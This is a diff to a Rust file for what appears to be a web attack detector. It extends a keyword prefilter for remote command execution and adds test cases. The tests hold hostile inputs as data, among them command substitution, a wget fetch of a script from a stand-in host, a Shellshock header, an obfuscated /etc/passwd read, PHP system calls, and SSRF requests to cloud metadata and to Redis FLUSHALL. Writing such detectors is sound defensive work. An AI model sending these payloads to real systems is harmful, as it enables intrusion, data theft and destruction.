@@ -41,6 +41,10 @@ pub static PREFILTER_KEYWORDS: &[&str] = &[
     // rce: command lines made only of words, options and addresses (`uname -a`, `net view`)
     "whoami", "uname", "ifconfig", "ipconfig", "netstat", "systeminfo", "tasklist", "netsh", "net user",
     "net view", "net localgroup", "which ", "ping ", "ls -", "ps -", ".exe ",
+    // rce: tool names no prose uses, cmd.exe `IF` conditions, Node.js code
+    "ansible", "chef-", "cscli", "visudo", "bsdtar", "aa-disable", "aa-exec", "lastlog", "rmt-", "python3", "kubectl",
+    "exist", "errorlevel", "cmdextversion", "defined", "constructor", "process.", "module.exports", "__js_function",
+    "c89 ", "c99 ", ",-c,",
     // java: class names and Spring property paths
     // php/java: uploaded script and session file names (`a.php5`, `shell.jsp`, `sess_<id>`)
     "php", "pht", "phar", "jsp", "sess_",
@@ -76,6 +80,13 @@ mod tests {
         ("rce", Part::QueryValue, "host", "$(whoami)"),
         ("rce", Part::QueryValue, "cmd", "wget http://x.example/s.sh"),
         ("rce", Part::Header, "user-agent", "() { :; }; /bin/bash -c id"),
+        ("rce", Part::QueryValue, "f", "cat /etc/pa[s]swd"),
+        ("rce", Part::QueryValue, "p", "${PATH:0:1}"),
+        ("rce", Part::QueryValue, "x", "Process.spawn(\"id\")"),
+        ("rce", Part::QueryValue, "c", "IF EXIST x.txt del x.txt"),
+        ("rce", Part::QueryValue, "c", "cscli alerts list"),
+        ("php", Part::QueryValue, "x", "[system][0](ls);"),
+        ("php", Part::QueryValue, "x", "opcache.jit_buffer_size=1"),
         ("ssrf", Part::QueryValue, "url", "http://169.254.169.254/latest/meta-data/"),
         ("ssrf", Part::QueryValue, "url", "localhost:8080/admin"),
         ("ssrf", Part::QueryValue, "url", "gopher://127.0.0.1:6379/_FLUSHALL"),
